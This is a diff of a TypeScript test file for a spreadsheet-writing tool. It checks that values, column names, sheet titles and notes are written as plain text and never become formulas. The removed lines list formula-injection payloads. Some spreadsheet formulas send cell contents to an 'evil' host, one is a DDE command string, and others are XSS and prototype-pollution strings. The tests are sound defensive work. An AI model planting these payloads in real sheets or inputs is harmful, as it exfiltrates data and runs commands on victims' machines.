@@ -1,51 +1,10 @@
 import { describe, expect, test } from "vitest";
-import type { Cell, ColumnType } from "../../../backend/contract/cells.ts";
+import type { Cell, Column, ColumnType } from "../../../backend/contract/cells.ts";
+import { attackPayloads } from "../../attack-payloads.ts";
 import { MemoryGrid } from "../../playground/memory-grid.ts";
 import type { WriteTable } from "../../rpc.ts";
 import { openScript } from "../../script-in-vm.ts";
 import type { WriteTarget } from "../../writes.ts";
-
-const payloads = [
-  '=IMAGE("https://evil/?d="&A1)',
-  '=IMPORTXML("https://evil","//a")',
-  '=IMPORTDATA("https://evil/?"&A1)',
-  '=IMPORTHTML("https://evil","table",1)',
-  '=IMPORTFEED("https://evil")',
-  '=IMPORTRANGE("abc","A1")',
-  '=HYPERLINK("https://evil","click")',
-  "+1+1",
-  "-1+cmd|' /C calc'!A0",
-  "@SUM(A1)",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  "\u0000=1+1",
-  " =1+1",
-  "\u00a0=1+1",
-  "\u200b=1+1",
-  "\ufeff=1+1",
-  "＝1+1",
-  "＋1+1",
-  "'=1+1",
-  "''=1+1",
-  "=ROWSMITH(A1:Z1000)",
-  "javascript:alert(1)",
-  "data:text/html,<script>alert(1)</script>",
-  "1E400",
-  "NaN",
-  "2026-02-30",
-  "TRUE",
-  "007",
-  "3-4",
-  "1/2",
-  "5%",
-  "1e5",
-  "  7  ",
-  "€5",
-  "10:30",
-  "__proto__",
-  "constructor",
-];
 
 const targets: WriteTarget[] = [
   { kind: "selection", header: true },
@@ -67,7 +26,7 @@ function tableOf(type: ColumnType, name: string, value: string): WriteTable {
 }
 
 describe.each(targets)("$kind", (target) => {
-  test.each(payloads)("%j as a value is that text and no formula", async (value) => {
+  test.each(attackPayloads)("%j as a value is that text and no formula", async (value) => {
     const grid = new MemoryGrid();
     if (target.kind === "append")
       grid.write(0, { row: 0, column: 0, rows: 1, columns: 1 }, [[{ value: "A" }]]);
@@ -77,7 +36,7 @@ describe.each(targets)("$kind", (target) => {
     }
   });
 
-  test.each(payloads)("%j as a column's name is that text and no formula", async (name) => {
+  test.each(attackPayloads)("%j as a column's name is that text and no formula", async (name) => {
     const grid = new MemoryGrid();
     const mapped = target.kind === "append" ? { ...target, mapping: [name] } : target;
     if (target.kind === "append")
@@ -85,6 +44,73 @@ describe.each(targets)("$kind", (target) => {
     const { cells } = await write(tableOf("text", name, "x"), mapped, grid);
     expect(cells[0]?.at(-1)).toMatchObject({ value: name, formula: "" });
   });
+});
+
+/** Which rows of a table of ours stand in the sheet, and what is made of those that do. */
+const keyed: WriteTarget[] = [
+  { kind: "upsert", keys: ["Key"] },
+  { kind: "fill-empty", keys: ["Key"] },
+  { kind: "update", writeId: "first" },
+];
+
+test.each(keyed)(
+  "$kind: every payload lands as that text, in rows that stood there and in new ones",
+  async (target) => {
+    const grid = new MemoryGrid();
+    const { call } = await openScript(grid);
+    const columns: Column[] = (["text", "number", "date", "url", "boolean"] as const).map((type) => ({
+      name: type,
+      type,
+    }));
+    const versionOf = (line: (payload: string) => Cell["value"]): WriteTable => ({
+      title: "Table",
+      columns: [{ name: "Key", type: "id" }, ...columns],
+      rows: attackPayloads.map((payload, row) => [
+        { value: `k${row}` },
+        ...columns.map(() => ({ value: line(payload) })),
+      ]),
+    });
+    const put = (table: WriteTable, at: WriteTarget, writeId: string) => {
+      const plan = call("plan", { table, target: at });
+      call("apply", { writeId, table, target: plan.target, planHash: plan.hash });
+    };
+    const before = versionOf(() => null);
+    const half = { ...before, rows: before.rows.slice(0, 20) };
+    put(half, { kind: "selection", header: true }, "first");
+    grid.select(0, { row: 1, column: 0, rows: 1, columns: 1 });
+    put(
+      versionOf((payload) => payload),
+      target,
+      "second",
+    );
+    const count = target.kind === "fill-empty" ? half.rows.length : attackPayloads.length;
+    const cells = grid.read(0, { row: 1, column: 1, rows: count, columns: columns.length });
+    cells.forEach((line, row) => {
+      for (const cell of line) expect(cell).toMatchObject({ value: attackPayloads[row], formula: "" });
+    });
+  },
+);
+
+test("update: every payload as the name of a column that came with a new version is that text", async () => {
+  const grid = new MemoryGrid();
+  const { call } = await openScript(grid);
+  const table: WriteTable = { title: "", columns: [{ name: "Key", type: "id" }], rows: [[{ value: "k" }]] };
+  const put = (each: WriteTable, target: WriteTarget, writeId: string) => {
+    const plan = call("plan", { table: each, target });
+    call("apply", { writeId, table: each, target: plan.target, planHash: plan.hash });
+  };
+  put(table, { kind: "selection", header: true }, "first");
+  const names = attackPayloads.map((name): Column => ({ name, type: "text" }));
+  const rows = [[{ value: "k" }, ...names.map(() => ({ value: "x" }))]];
+  put(
+    { ...table, columns: [...table.columns, ...names], rows },
+    { kind: "update", writeId: "first" },
+    "second",
+  );
+  const [header = []] = grid.read(0, { row: 0, column: 1, rows: 1, columns: names.length });
+  expect(header.map(({ value, formula }) => [value, formula])).toEqual(
+    attackPayloads.map((name) => [name, ""]),
+  );
 });
 
 /** The same header in a fresh grid, so that each write starts alike. */
@@ -98,14 +124,30 @@ function structuredCopy(grid: MemoryGrid): MemoryGrid {
   return copy;
 }
 
-test.each(['=IMAGE("https://evil")', "'=1+1", "__proto__", "<b>x</b>"])(
-  "%j as a title names a sheet literally, without the signs that names cannot have",
+test.each([...attackPayloads, "<b>x</b>"])(
+  "%j as a title names a sheet, without the signs that names cannot have, and is no formula",
   async (title) => {
     const { sheet, cells } = await write({ ...tableOf("text", "A", "x"), title }, { kind: "new-sheet" });
-    expect(sheet?.name).toBe(title.replace(/[:/]+/g, " ").replace(/^'/, "").trim());
+    const letters = (text: string) => text.replace(/[^\p{L}\p{N}]/gu, "");
+    expect(letters(sheet?.name ?? "")).toBe(letters(title));
     expect(cells.flat().every(({ formula }) => formula === "")).toBe(true);
   },
 );
+
+test("every payload in a quote stays the note that it is, and no formula", async () => {
+  const grid = new MemoryGrid();
+  const { call } = await openScript(grid);
+  const rows = attackPayloads.map((raw): Cell[] => [{ value: "x", raw }]);
+  const table: WriteTable = { title: "", columns: [{ name: "A", type: "text" }], rows };
+  const options = { notes: "all" as const };
+  const plan = call("plan", { table, target: { kind: "selection", header: true }, options });
+  call("apply", { writeId: "w", table, target: plan.target, planHash: plan.hash, options });
+  const rect = { row: 1, column: 0, rows: rows.length, columns: 1 };
+  expect(grid.notes(0, rect).flat()).toEqual(
+    attackPayloads.map((raw) => `Rowsmith: as in the source\n“${raw}”`),
+  );
+  expect(grid.read(0, rect).every(([cell]) => cell?.value === "x" && cell.formula === "")).toBe(true);
+});
 
 test("a real -5 in a number column is a number", async () => {
   const table: WriteTable = { title: "", columns: [{ name: "A", type: "number" }], rows: [[{ value: -5 }]] };
